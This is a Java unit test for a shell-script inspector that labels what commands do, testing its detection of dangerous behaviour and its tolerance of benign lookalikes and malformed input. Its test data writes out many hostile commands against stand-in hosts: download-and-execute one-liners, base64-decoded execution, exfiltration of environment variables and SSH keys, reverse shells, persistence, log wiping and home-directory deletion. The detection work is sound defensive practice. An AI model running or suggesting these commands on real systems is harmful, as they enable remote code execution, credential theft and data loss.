package cordon.inspect.shell;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import cordon.inspect.chain.NeedReader;
import cordon.inspect.fact.FileFacts;
import cordon.inspect.fact.Reference;
import cordon.inspect.rules.Rules;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

final class ShellReaderTest {
  private static final ShellReader READER = new ShellReader(Rules.own(false).build().vocabulary());

  private static FileFacts read(String script) {
    return READER.read("a.sh", script.replace("\\n", "\n").getBytes(UTF_8));
  }

  private static boolean does(String script, String need) {
    return read(script).facts().stream().anyMatch(NeedReader.read(need)::fits);
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " ## ",
      textBlock =
          """
          run-code<fetch ## curl -fsSL https://x.example/a | sudo bash -s -- -y
          run-code<fetch ## bash <(curl -s https://x.example/a)
          run-code<fetch ## eval "$(wget -qO- https://x.example/a)"
          run-code<fetch ## sh -c "$(curl -fsSL https://x.example/a)"
          run-code<fetch ## X=$(curl https://x.example/a)\\neval "$X"
          run-code<fetch ## powershell -c "IEX(New-Object Net.WebClient).DownloadString('https://x.example/a')"
          run-code<fetch ## mshta http://x.example/a.hta
          run-process<fetch ## wget https://x.example/a -O /tmp/a && chmod +x /tmp/a && /tmp/a
          run-process<fetch ## curl -sLo a https://x.example/a; chmod 755 a; nohup ./a &
          run-process<fetch ## wget https://x.example/tool\\nchmod +x tool\\n./tool
          run-process<fetch ## certutil -urlcache -split -f http://x.example/a.exe a.exe && start /b a.exe
          run-code<decode ## echo aWQK | base64 -d | sh
          run-code<decode ## base64 -d <<< aWQK | bash
          run-code<decode ## A=aWQK; echo $A | base64 --decode | bash
          run-code<decode ## echo "di" | rev | sh
          run-code<decrypt ## openssl enc -aes-256-cbc -d -in x -k y | sh
          send<environment ## env | base64 | curl -X POST -d @- https://x.example
          send<environment ## printenv > /tmp/e; curl -F f=@/tmp/e https://x.example
          send<secret ## curl -d "$(cat ~/.ssh/id_rsa)" https://x.example
          send<secret ## cat ~/.ssh/id_ed25519 | nc x.example 99
          send<host-info ## curl https://x.example/$(hostname)/$(whoami)
          send<host-info ## curl https://x.example/?u=$USER
          remote-control ## nc -e /bin/sh 192.0.2.7 4444
          remote-control ## bash -i >& /dev/tcp/192.0.2.7/4444 0>&1
          persist:cron ## (crontab -l; echo '* * * * * /tmp/a') | crontab -
          persist:systemd ## systemctl --user enable --now a.service
          persist:registry-run ## reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v a /d b
          publish ## npm publish --access public
          cover-tracks:history ## history -c
          cover-tracks:own-file ## rm -- "$0"
          detached ## nohup ./x >/dev/null 2>&1 &
          destroy ## rm -rf "$HOME"
          """)
  void whatCommandsDoIsFoundInManySpellings(String need, String script) {
    assertTrue(does(script, need), () -> read(script).facts().toString());
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " ## ",
      textBlock =
          """
          run-code|run-process ## # curl https://x.example | sh
          run-code|run-process ## echo 'curl https://x.example | sh'
          run-code|run-process ## curl -fsSL https://x.example/a.tgz -o a.tgz && tar xzf a.tgz
          run-code ## cat <<EOF\\ncurl https://x.example | sh\\nEOF
          send ## curl -f https://x.example/a -o a
          destroy ## rm -rf build dist "$HOME/.cache/demo"
          persist ## crontab -l
          send<environment ## env | grep PATH
          """)
  void whatOnlyLooksLikeItIsNot(String need, String script) {
    assertFalse(does(script, need), () -> read(script).facts().toString());
  }

  @Test
  void recipesOfMakefilesAreRead() {
    FileFacts read =
        READER.read(
            "Makefile",
            "all: x\n\t@curl https://x.example/a | sh\nX = curl y | sh\n".getBytes(UTF_8));
    assertTrue(
        read.facts().stream()
            .anyMatch(f -> f.place().line() == 2 && NeedReader.read("run-code<fetch").fits(f)),
        read::toString);
  }

  @Test
  void filesThatRunAreNamed() {
    List<Reference> references = read("cd x\\nnode ./a.js\\n. lib/b.sh\\n./c.sh").references();
    assertTrue(
        references.toString().contains("/a.js")
            && references.toString().contains("/lib/b.sh")
            && references.toString().contains("/c.sh"),
        references::toString);
  }

  @Test
  void brokenAndDeepScriptsAreReadToTheirEnd() {
    for (String each :
        List.of(
            "$(", "`", "'", "\"", "<(", "\"$(", "${", "(", "{", "<<a\n", "|", "&", "%a", "\\",
            "sh -c '", "eval $(")) {
      FileFacts read = read(each.repeat(50_000));
      assertTrue(read.facts().size() < 10_000);
    }
    assertFalse(read("$(".repeat(100) + "curl x | sh").complete());
  }
}
